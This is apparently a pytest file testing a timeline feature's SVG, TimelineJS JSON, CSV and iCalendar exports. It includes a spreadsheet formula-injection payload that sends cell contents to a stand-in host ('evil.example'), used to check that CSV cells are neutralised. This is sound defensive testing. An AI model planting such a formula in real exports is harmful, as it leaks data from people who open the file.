"""The timeline's overview SVG and its exports: TimelineJS3 JSON, CSV and iCalendar."""

from __future__ import annotations

import csv
import datetime as dt
import io
import xml.etree.ElementTree as ET

import pytest
from icalendar import Calendar

from archive.timeline_export import neutralise
from tests.hostile import CLEANED, SECURITY_HEADERS, archive_text_xml_cannot_hold
from tests.test_timeline import AFTER, HEARINGS, ORDER, app  # noqa: F401  (the fixture corpus app)

SVG = "{http://www.w3.org/2000/svg}"
ALL_IDS = [doc_id for doc_id, _, _ in ORDER + AFTER]


def _svg(client) -> ET.Element:
    html = client.get("/timeline").get_data(as_text=True)
    fragment = html[html.index("<svg") : html.index("</svg>") + len("</svg>")]
    return ET.fromstring(fragment)  # raises if the SVG is not well-formed XML


def _marks(root: ET.Element) -> dict[str, ET.Element]:
    links = [a for a in root.iter(f"{SVG}a") if "mark" in a.get("class", "").split()]
    return {a.get("href").removeprefix("#e-"): a for a in links}


def test_overview_is_well_formed_with_one_linked_mark_per_entry(client):
    root = _svg(client)
    marks = _marks(root)
    assert sorted(marks) == sorted(ALL_IDS)
    assert len([a for a in root.iter(f"{SVG}a")]) == len(ALL_IDS)
    html = client.get("/timeline").get_data(as_text=True)
    for doc_id, mark in marks.items():
        assert f'id="e-{doc_id}"' in html  # the mark's link lands on its entry
        assert mark.find(f"{SVG}title").text  # and says what it is
    standalone = client.get("/timeline.svg")
    assert standalone.mimetype == "image/svg+xml"
    assert len(_marks(ET.fromstring(standalone.data))) == len(ALL_IDS)


def _shape(mark: ET.Element) -> ET.Element:
    return next(child for child in mark if child.tag != f"{SVG}title")


def test_imprecise_dates_are_spans_and_days_are_dots(client):
    marks = _marks(_svg(client))
    day = _shape(marks["fx-day-2014"])
    assert day.tag == f"{SVG}circle"
    month, season = _shape(marks["fx-month-2019"]), _shape(marks[HEARINGS])
    interval = _shape(marks["fx-interval-2020"])
    assert {month.tag, season.tag, interval.tag} == {f"{SVG}rect"}
    # A season is a band three times as wide as a month, and taller.
    assert float(season.get("width")) > 2.5 * float(month.get("width"))
    assert float(season.get("height")) > float(month.get("height"))
    qualified = _shape(marks["fx-approximate-month-2019"])
    assert qualified.get("stroke-dasharray")  # not colour alone
    assert (
        "11 September 2019 (uncertain)" in marks["fx-uncertain-day-2019"].find(f"{SVG}title").text
    )


def test_marks_sit_at_their_true_place_and_never_overlap(client):
    marks = _marks(_svg(client))

    def box(doc_id):
        shape = _shape(marks[doc_id])
        if shape.tag == f"{SVG}circle":
            x, r = float(shape.get("cx")), float(shape.get("r"))
            return x - r, x + r, float(shape.get("cy"))
        x, w = float(shape.get("x")), float(shape.get("width"))
        return x, x + w, float(shape.get("y")) + float(shape.get("height")) / 2

    assert box("fx-day-2014")[0] < box("fx-month-2019")[0] < box("fx-after-day-2022")[0]
    assert box(HEARINGS)[0] == box("fx-after-season-2020")[0]  # same season, same place
    boxes = [box(i) for i in ALL_IDS]
    for n, (left, right, y) in enumerate(boxes):
        for other_left, other_right, other_y in boxes[n + 1 :]:
            if y == other_y:
                assert right <= other_left or other_right <= left


def test_overview_shows_the_eras(client):
    root = _svg(client)
    titles = [
        g.find(f"{SVG}title").text
        for g in root.iter(f"{SVG}g")
        if "era" in g.get("class", "").split()
    ]
    assert [t.split(":")[0] for t in titles] == [
        "Inquiry set up",
        "Investigation under way",
        "Hearings due",
        "After the hearings were due",
    ]
    assert "Hearings due: 1 March 2020 to 31 May 2020" in titles


def validate_timelinejs(data: dict) -> None:
    """Check TimelineJS3's JSON rules: year required; month and day only with what precedes them."""

    def check_date(date: dict) -> dt.date:
        assert isinstance(date["year"], int)
        assert set(date) <= {"year", "month", "day", "display_date"}
        assert "day" not in date or "month" in date
        assert 1 <= date.get("month", 1) <= 12
        return dt.date(date["year"], date.get("month", 1), date.get("day", 1))

    assert isinstance(data["events"], list) and data["events"]
    assert isinstance(data["title"]["text"]["headline"], str)
    ids = [event["unique_id"] for event in data["events"]]
    assert len(ids) == len(set(ids))
    for event in data["events"]:
        start = check_date(event["start_date"])
        if "end_date" in event:
            assert check_date(event["end_date"]) >= start
        assert event["text"]["headline"] and isinstance(event["text"]["text"], str)
        assert isinstance(event["group"], str) and event["group"]
    for era in data["eras"]:
        assert check_date(era["start_date"]) <= check_date(era["end_date"])
        assert era["text"]["headline"]


def test_timelinejs_export_follows_timelinejs3_rules(client):
    response = client.get("/timeline.json?format=timelinejs")
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    data = response.get_json()
    validate_timelinejs(data)
    events = {e["unique_id"].removeprefix("e-"): e for e in data["events"]}
    assert list(events) == ALL_IDS
    assert events["fx-day-2014"]["start_date"] == {"year": 2014, "month": 7, "day": 7}
    assert "display_date" not in events["fx-day-2014"]
    uncertain = events["fx-uncertain-day-2019"]
    assert uncertain["start_date"] == {
        "year": 2019,
        "month": 9,
        "display_date": "11 September 2019 (uncertain)",
    }
    assert uncertain["display_date"] == "11 September 2019 (uncertain)"
    season = events[HEARINGS]
    assert season["display_date"] == "Spring 2020"
    assert (season["start_date"]["month"], season["end_date"]["month"]) == (3, 5)
    assert "day" not in season["start_date"]
    assert events["fx-year-2019"]["start_date"] == {"year": 2019, "display_date": "2019"}
    assert events["fx-approximate-month-2019"]["display_date"] == "c. December 2019"
    assert events["fx-approximate-month-2019"]["group"] == (  # each organisation's one name
        "Fixture County Council (test fixture) & Fixture Constabulary (test fixture)"
    )
    assert events["fx-interval-2020"]["end_date"] == {"year": 2020, "month": 1, "day": 17}
    assert [era["text"]["headline"] for era in data["eras"]][2] == "Hearings due"


def test_timelinejs_export_takes_the_filters(client):
    data = client.get("/timeline.json?format=timelinejs&org=fixture-charity").get_json()
    assert len(data["events"]) == 4
    error = client.get("/timeline.json?format=excel")
    assert error.status_code == 400
    assert error.get_json()["error"]["message"] == "unknown format 'excel'; use format=timelinejs"
    assert "unknown org" in client.get("/timeline.json?org=x").get_json()["error"]["message"]


FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
FORMULA_SUMMARY = "+44 20 7946 0000 is a telephone number, not a sum"
FORMULA_DOCUMENT = f"""---
# TEST FIXTURE: synthetic document whose cells a spreadsheet would run as formulas.
id: fx-formula-2019
title: '{FORMULA_TITLE.replace("'", "''")}'
kind: statement
organisations: [fixture-council]
date: 2019-10-01
summary: '{FORMULA_SUMMARY}'
source: {{title: Timeline test fixtures, publisher: Test fixture (not a real source)}}
---
-2+3 opens this synthetic statement, which a spreadsheet would otherwise compute.
"""


def test_csv_round_trips_through_the_csv_module(client):
    archive = client.application.extensions["archive"]
    (archive.config.documents_dir / "fx-formula-2019.md").write_text(FORMULA_DOCUMENT)
    assert not archive.build().problems
    response = client.get("/timeline.csv")
    assert response.mimetype == "text/csv"
    body = response.get_data().decode("utf-8")
    assert body.startswith("\ufeff")  # so that Excel reads UTF-8: curly quotes stay curly
    rows = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"), newline="")))
    ids = ALL_IDS.copy()
    ids.insert(ids.index("fx-uncertain-day-2019") + 1, "fx-formula-2019")
    assert [row["id"] for row in rows] == ids
    assert [row["number"] for row in rows] == [str(n) for n in range(1, len(ids) + 1)]
    joint = next(row for row in rows if row["id"] == "fx-approximate-month-2019")
    assert joint["date_in_words"] == "c. December 2019"
    assert joint["precision"] == "month" and joint["qualifier"] == "approximate"
    assert joint["relation_to_hearings"] == "about 4 months before the hearings"
    assert joint["quote"].startswith("This is test fixture wording for a joint statement in about")
    assert "," in joint["quote"]  # a comma inside a field survives the round trip
    assert joint["quote_url"].startswith(
        "http://localhost/documents/fx-approximate-month-2019/v1/q/"
    )
    assert joint["organisation_keys"] == "fixture-council; fixture-police"
    assert {row["section"] for row in rows} == {"before", "hearings", "after"}
    # Cells a spreadsheet would run come back neutralised (OWASP): a leading ' and then the text.
    formula = next(row for row in rows if row["id"] == "fx-formula-2019")
    assert formula["title"] == "'" + FORMULA_TITLE
    assert formula["summary"] == "'" + FORMULA_SUMMARY
    assert formula["quote"].startswith("'-2+3 opens this synthetic statement")
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_every_cell_a_spreadsheet_would_run(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("cell", ["", "a=b", " =1", "'=1", "–1", "2019-12~", 7])
def test_csv_leaves_other_cells_as_they_are(cell):
    assert neutralise(cell) == cell


def test_ics_parses_and_holds_the_entries_dated_to_a_day(client):
    response = client.get("/timeline.ics")
    assert response.mimetype == "text/calendar"
    calendar = Calendar.from_ical(response.data)
    events = {str(e["uid"]).split("@")[0]: e for e in calendar.walk("VEVENT")}
    assert sorted(events) == sorted(
        [
            "fx-day-2014",
            "fx-uncertain-day-2019",
            "fx-day-2019-a",
            "fx-day-2019-b",
            "fx-interval-2020",
            "fx-march-2020",
            "fx-after-interval-2020",
            "fx-after-day-2022",
        ]
    )  # months, seasons and years have no day to put in a calendar
    interval = events["fx-interval-2020"]
    assert interval.decoded("dtstart") == dt.date(2020, 1, 13)
    assert interval.decoded("dtend") == dt.date(2020, 1, 18)  # exclusive end: through the 17th
    assert str(events["fx-uncertain-day-2019"]["summary"]).endswith("(uncertain date)")
    assert "3 months before the hearings" in str(events["fx-day-2019-b"]["description"])
    assert str(events["fx-day-2014"]["url"]) == "http://localhost/documents/fx-day-2014"


@pytest.mark.parametrize("path", ["/timeline.csv", "/timeline.ics", "/timeline.svg"])
def test_exports_take_the_same_filters(client, path):
    everything = client.get(path).get_data(as_text=True)
    filtered = client.get(f"{path}?kind=report").get_data(as_text=True)
    assert "fx-day-2019-a" in filtered and "fx-day-2014" not in filtered
    assert "fx-day-2014" in everything


def test_openapi_describes_the_timeline(client):
    paths = client.get("/api/v1/openapi.json").get_json()["paths"]
    params = {p["name"] for p in paths["/api/v1/timeline"]["get"]["parameters"]}
    assert params == {"org", "kind", "from", "to", "q"}
    assert "/timeline.json" in paths and "/timeline.ics" in paths


def test_svg_and_calendar_stay_valid_whatever_an_archived_title_holds(client):
    archive_text_xml_cannot_hold(client.application.extensions["archive"], "fx-day-2019-a")
    standalone = client.get("/timeline.svg")
    assert standalone.status_code == 200
    root = ET.fromstring(standalone.data)  # raises if the SVG is not well-formed XML
    assert any(CLEANED in (title.text or "") for title in root.iter(f"{SVG}title"))
    assert CLEANED in _marks(_svg(client))["fx-day-2019-a"].find(f"{SVG}title").text
    calendar = Calendar.from_ical(client.get("/timeline.ics").data)
    summaries = {str(e["uid"]).split("@")[0]: str(e["summary"]) for e in calendar.walk("VEVENT")}
    assert summaries["fx-day-2019-a"] == CLEANED


def test_svg_refuses_parameters_xml_cannot_hold(client):
    response = client.get("/timeline.svg?q=%01")
    assert response.status_code == 400
    assert all(name in response.headers for name in SECURITY_HEADERS)
    assert "U+0001" in response.get_data(as_text=True)
